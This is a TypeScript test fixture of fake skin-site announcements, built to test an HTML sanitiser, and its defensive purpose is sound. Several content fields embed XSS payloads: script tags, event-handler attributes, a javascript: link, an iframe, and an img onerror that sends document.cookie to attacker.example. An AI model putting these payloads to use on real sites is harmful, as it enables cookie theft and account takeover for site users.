// LittleSkin-style announcements (docs/upstream.md B9). Their HTML mixes tags a sanitiser should keep
// (p, ul, li, strong, https links) with every usual way to smuggle script in.

export interface Announcement {
  title: string;
  content: string;
  color: string;
  priority: number;
  severity: 'fatal' | 'warning' | 'info';
  expand: boolean;
  timestamp: number;
  id: string;
}

export const ANNOUNCEMENTS: readonly Announcement[] = [
  {
    title: 'Welcome to Fake LittleSkin',
    content: '<p>This is a <strong>fake</strong> skin site for development.</p>'
      + '<script>document.title = "pwned"</script>'
      + '<p onclick="alert(1)">Read the <a href="https://example.org/manual">manual</a>.</p>',
    color: 'blue',
    priority: 100,
    severity: 'info',
    expand: true,
    timestamp: 1706369054.135452,
    id: '70c90f09-9f77-4d78-b7e4-92b4e86d8f6c',
  },
  {
    title: 'Scheduled maintenance',
    content: '<ul><li>Yggdrasil API: <strong>5 minutes</strong> of downtime</li>'
      + '<li onmouseover="steal()">Uploads paused</li></ul>'
      + '<img src=x onerror="fetch(\'https://attacker.example/\' + document.cookie)">',
    color: 'yellow',
    priority: 80,
    severity: 'warning',
    expand: false,
    timestamp: 1709251200.5,
    id: '1b0e3b5e-5d0e-4c1a-9a57-3f2d6c9e8a41',
  },
  {
    title: 'Account security',
    content: '<p>Never share your password. <a href="javascript:alert(document.domain)">Check your account</a>'
      + ' or <a href="https://example.org/security" target="_blank">read more</a>.</p>'
      + '<iframe src="https://attacker.example/frame"></iframe>',
    color: 'red',
    priority: 60,
    severity: 'fatal',
    expand: false,
    timestamp: 1711929600.25,
    id: 'c4a760a8-1f5b-4b8e-9d36-0a5c2e7f9b13',
  },
  {
    title: '新功能：披风',
    content: '<p>现在可以上传<strong>披风</strong>了。</p><p><a href="https://example.org/capes" onclick="track()">了解更多</a></p>',
    color: 'green',
    priority: 40,
    severity: 'info',
    expand: false,
    timestamp: 1714521600.75,
    id: '5e2f9c1d-8a3b-4f6e-b2d7-9c4a1e0f3b58',
  },
];
